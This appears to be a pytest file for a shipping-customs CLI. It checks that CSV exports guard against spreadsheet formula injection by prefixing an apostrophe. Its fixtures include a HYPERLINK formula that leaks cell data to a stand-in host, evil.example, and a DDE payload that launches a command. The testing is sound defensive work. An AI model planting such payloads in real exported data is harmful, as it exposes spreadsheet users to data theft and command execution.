"""Every CSV `clearlane link` writes is safe to open in a spreadsheet: a value taken from a
manifest, a declaration or a party list that starts with = + - @ (or a tab / CR) is written
with a leading apostrophe, as `score --out` does (clearlane.core.csvsafe)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from clearlane.cli import app
from clearlane.generate.identifiers import container_number
from clearlane.ingest.pipeline import ingest_records
from tests.factories import declaration
from tests.link.test_manifests import dcsa

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DOCUMENT = "@SUM(1+1)*cmd|' /C calc'!A0"  # a bill of lading number, as the carrier typed it
C1 = container_number("MSK", 333333)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_link_discrepancies_out_neutralises_formulas(
    store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from clearlane.config import get_settings
    from clearlane.store.session import open_store

    factory = open_store(store_url)
    ebl = tmp_path / "ebl.json"
    ebl.write_text(json.dumps([dcsa(DOCUMENT, [C1], consignee=FORMULA)]), encoding="utf-8")
    decl = declaration("D77", transport_document="OTHER0077", containers=[C1])  # by container
    decl["items"][0].update(gross_mass_kg=-1.5e3 * -0.06)  # 90 kg: a mass discrepancy too
    ingest_records([decl], source="t", session_factory=factory)
    monkeypatch.setenv("CLEARLANE_DATABASE_URL", store_url)
    get_settings.cache_clear()
    runner = CliRunner()
    assert runner.invoke(app, ["link", "manifests", str(ebl)]).exit_code == 0
    assert runner.invoke(app, ["link", "run"]).exit_code == 0
    out = tmp_path / "d.csv"
    result = runner.invoke(app, ["link", "discrepancies", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = {row["code"]: row for row in _rows(out)}
    assert rows["MANIFEST_GROSS_MASS"]["document_number"] == "'" + DOCUMENT
    assert float(rows["MANIFEST_GROSS_MASS"]["declared"]) == 90.0  # numbers stay numbers
    every_cell = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in every_cell if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_link_parties_out_neutralises_formulas(tmp_path: Path) -> None:
    header = "id,name,street,city,postcode,country\n"
    left, right, out = tmp_path / "l.csv", tmp_path / "r.csv", tmp_path / "m.csv"
    row = "Jansen Import B.V.,Kade 4,Rotterdam,3011AA,NL\n"
    left.write_text(header + "@SUM(1+1)," + row, encoding="utf-8")
    right.write_text(header + "-2+3," + row, encoding="utf-8")
    command = ["link", "parties", "--left", str(left), "--right", str(right), "--out", str(out)]
    result = CliRunner().invoke(app, command)
    assert result.exit_code == 0, result.output
    (match,) = _rows(out)
    assert (match["left_id"], match["right_id"]) == ("'@SUM(1+1)", "'-2+3")
